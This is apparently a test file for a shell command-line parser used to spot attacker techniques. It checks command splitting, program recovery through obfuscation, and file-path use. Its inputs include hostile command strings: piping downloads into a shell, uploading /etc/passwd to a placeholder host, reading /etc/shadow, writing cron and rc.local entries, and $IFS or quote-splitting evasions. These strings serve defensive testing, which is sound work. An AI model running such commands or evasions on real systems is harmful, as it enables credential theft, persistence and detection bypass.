import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { parseCommandLine, usedPaths } from '../../../../packages/plugins/src/ttp/index.ts';

/** Programs with their words, in order. */
const commands = (text: string) =>
  parseCommandLine(text).parts.map((part) => [
    part.tool,
    ...part.words.slice(1).map((word) => word.text),
  ]);
const tools = (text: string) => parseCommandLine(text).parts.map((part) => part.tool);
const slices = (text: string) =>
  parseCommandLine(text).parts.map((part) => text.slice(part.start, part.end));

describe('a command line is split', () => {
  it.each([
    ['cd /tmp; wget http://h/a', ['cd', 'wget']],
    ['a && b || c & d | e', ['a', 'b', 'c', 'd', 'e']],
    ['a\nb\r\nc', ['a', 'b', 'c']],
    ['echo $(id) `whoami` "$(uname -a)"', ['id', 'whoami', 'uname', 'echo']],
    ['(cd /tmp && ls) | nc h 1', ['cd', 'ls', 'nc']],
    ['if [ -x a ]; then wget x; else curl y; fi', ['[', 'wget', 'curl', 'fi']],
    ['for i in 1 2; do ping h$i; done', ['for', 'ping', 'done']],
    ['f() { id; }; f', ['id', '', 'f']],
    ['id # and a comment; whoami', ['id']],
    ['diff <(ls a) <(ls b)', ['ls', 'ls', 'diff']],
  ])('%s', (text, expected) => {
    expect(tools(text)).toEqual(expected);
  });

  it('does not split inside quotes, escapes and here-documents', () => {
    expect(commands(`echo 'a; b' "c | d" e\\;f`)).toEqual([['echo', 'a; b', 'c | d', 'e;f']]);
    const [cat, sh] = parseCommandLine('cat <<EOF > x.sh\nwget http://h\nEOF\nsh x.sh').parts;
    expect(cat?.redirections[0]?.body?.text).toBe('wget http://h\n');
    expect(sh?.tool).toBe('sh');
  });

  it('goes on with a line that begins with an option or an address', () => {
    expect(commands('curl -s\nhttp://h/x')).toEqual([['curl', '-s', 'http://h/x']]);
    expect(commands('bash\n-i')).toEqual([['bash', '-i']]);
  });

  it('says what a pipe connects', () => {
    const [curl, tee, sh] = parseCommandLine('curl http://h | tee x |& sh').parts;
    expect(curl?.pipedTo).toBe(tee);
    expect(sh?.pipedFrom).toBe(tee);
    expect(parseCommandLine('a; b').parts[1]?.pipedFrom).toBeNull();
  });

  it('keeps a quote that is never closed as a letter', () => {
    expect(commands("echo it's; id")).toEqual([['echo', "it's"], ['id']]);
  });
});

describe('the program is found', () => {
  it.each([
    ['/usr/bin/wget x', 'wget'],
    ["w'g'et x", 'wget'],
    ['w"ge"t x', 'wget'],
    ['w\\get x', 'wget'],
    ['w$@get x', 'wget'],
    ["$'\\x77get' x", 'wget'],
    ['{wget,http://h/x}', 'wget'],
    ['cat$IFS/etc/passwd', 'cat'],
    ['cat${IFS}$9/etc/passwd', 'cat'],
    ['A=1 B=2 wget x', 'wget'],
    ['sudo wget x', 'wget'],
    ['sudo -u root -E wget x', 'wget'],
    ['sudo --user=root -- wget x', 'wget'],
    ['env -i A=1 wget x', 'wget'],
    ['nohup setsid nice -n 10 wget x &', 'wget'],
    ['timeout -k 5 60 stdbuf -oL wget x', 'wget'],
    ['/bin/busybox wget x', 'wget'],
    ['exec -a name wget x', 'wget'],
    ['xargs -n 1 -I {} wget {}', 'wget'],
    ['then sudo wget x', 'wget'],
    ['! time wget x', 'wget'],
    ['X=$(which wget); $X h', 'wget'],
    ['X=wget; ${X} h', 'wget'],
    ['wget\u00a0x', 'wget'],
    ['wget🙂', 'wget'],
    ['wgetü x', 'wgetü'],
  ])('%s', (text, tool) => {
    expect(tools(text)).toContain(tool);
  });

  it('leaves sudo the command where it runs none', () => {
    expect(commands('sudo -l')).toEqual([['sudo', '-l']]);
    expect(commands('sudo -u root -i')).toEqual([['sudo', '-u', 'root', '-i']]);
    expect(parseCommandLine('sudo su -').parts[0]).toMatchObject({ tool: 'su', through: ['sudo'] });
    expect(tools('command -v wget')).toEqual(['command']);
  });

  it('takes what it is told about other programs as words only', () => {
    expect(tools('man nmap; which nmap; echo nmap; apt install nmap')).toEqual([
      'man',
      'which',
      'echo',
      'apt',
    ]);
  });
});

describe('commands inside arguments', () => {
  it.each([
    [`bash -c "wget h; chmod 777 x"`, ['bash', 'wget', 'chmod']],
    [`sh -lc 'curl h | bash'`, ['sh', 'curl', 'bash']],
    [`eval "id"`, ['eval', 'id']],
    [`su - root -c 'whoami'`, ['su', 'whoami']],
    [`find / -name x -exec rm -f {} \\;`, ['find', 'rm']],
    [`ssh -p 22 h "cd /etc && tar c ."`, ['ssh', 'cd', 'tar']],
    [`docker exec -it c sh -c 'id'`, ['docker', 'sh', 'id']],
    [`kubectl exec pod -- cat /x`, ['kubectl', 'cat']],
    [`chroot /mnt /bin/bash`, ['chroot', 'bash']],
    [`python3 -c 'import os; os.system("cat /etc/passwd")'`, ['python3', 'cat']],
    [`awk 'BEGIN{system("id")}'`, ['awk', 'id']],
    [`echo 'wget h' | sh`, ['echo', 'sh', 'wget']],
    [`bash <<EOF\nwget h\nEOF`, ['bash', 'wget']],
    [`bash <<< 'wget h'`, ['bash', 'wget']],
  ])('%s', (text, expected) => {
    expect(tools(text)).toEqual(expected);
  });

  it('places them in the text', () => {
    expect(slices(`bash -c "wget h; id"`)).toEqual([`bash -c "wget h; id"`, 'wget h', 'id']);
    expect(slices(`sh -c w'g'et`).at(-1)).toBe(`w'g'et`);
  });
});

describe('the paths that a command uses', () => {
  const paths = (text: string) =>
    parseCommandLine(text).parts.flatMap((part) =>
      usedPaths(part).map(({ use, path }) => `${use} ${path}`),
    );
  it.each([
    ['cat</etc/passwd', ['read /etc/passwd']],
    ['grep root /etc//passwd', ['read /etc/passwd']],
    ['cat /etc/{passwd,shadow}', ['read /etc/passwd', 'read /etc/shadow']],
    ['echo x >> /etc/crontab', ['write /etc/crontab']],
    ['echo x | tee -a /etc/rc.local', ['write /etc/rc.local']],
    ['cp a /etc/cron.d/', ['read a', 'write /etc/cron.d/', 'write /etc/cron.d/a']],
    ['mv a b', ['read a', 'delete a', 'write b']],
    ['dd if=/dev/sda of=/tmp/x', ['read /dev/sda', 'write /tmp/x']],
    ['sed -i s/a/b/ /etc/hosts', ['read /etc/hosts', 'write /etc/hosts']],
    ['sed s/a/b/ /etc/hosts', ['read /etc/hosts']],
    ['rm -rf /var/log/x', ['delete /var/log/x']],
    ['cd /tmp && ./x', ['run /tmp/x']],
    ['cd /etc; cat shadow', ['read /etc/shadow']],
    ['wget http://h/x -O /tmp/x', ['write /tmp/x']],
    ['curl -F f=@/etc/passwd http://h', ['read /etc/passwd']],
    ['tar czf /tmp/a.tgz /home', ['write /tmp/a.tgz', 'read /home']],
    ['sh -x /tmp/x.sh', ['run /tmp/x.sh']],
    ['ls > /dev/null 2>&1', []],
  ])('%s', (text, expected) => {
    expect(paths(text)).toEqual(expected);
  });
});

describe('hostile text', () => {
  const soup = fc.array(
    fc.constantFrom(
      ...['$(', '`', "'", '"', '\\', ')', '(', '|', '&', ';', '<<', '<', '>', '\n', ' ', '#'],
      ...['$IFS', '${', '}', '{a,', "$'", 'sh -c ', 'eval ', 'sudo ', 'x=', 'EOF', 'é', '\ud800'],
    ),
    { maxLength: 60 },
  );

  it('never throws, and each part lies in the text', () => {
    fc.assert(
      fc.property(soup, (pieces) => {
        const text = pieces.join('');
        for (const part of parseCommandLine(text).parts) {
          expect(part.start).toBeGreaterThanOrEqual(0);
          expect(part.end).toBeGreaterThanOrEqual(part.start);
          expect(part.end).toBeLessThanOrEqual(text.length);
          for (const word of part.words) {
            if (word.textStart >= 0) expect(text.startsWith(word.text, word.textStart)).toBe(true);
          }
        }
      }),
      { numRuns: 2000 },
    );
  });

  it('cuts a part at 4 KiB, and says so', () => {
    const [part] = parseCommandLine(`echo ${'a'.repeat(5000)} b`).parts;
    expect(part?.cut).toBe(true);
    expect(part?.words[1]?.text.length).toBeLessThanOrEqual(4096);
    expect(parseCommandLine('echo a').parts[0]?.cut).toBe(false);
  });

  it.each(['$(', '`', '"$(', 'wget a;', 'eval ', '<<a ', "sh -c 'id';", '${', '\n-', '('])(
    'leaves the rest of 10 MB of %j aside, and counts it',
    (piece) => {
      const text = piece.repeat(10_000_000 / piece.length);
      const before = process.cpuUsage();
      const line = parseCommandLine(text);
      const { user, system } = process.cpuUsage(before);
      // In microseconds; a loaded machine may be slow, but not by orders of magnitude.
      expect(user + system).toBeLessThan(500_000);
      expect(line.charactersLeft).toBeGreaterThan(9_000_000);
    },
  );
});
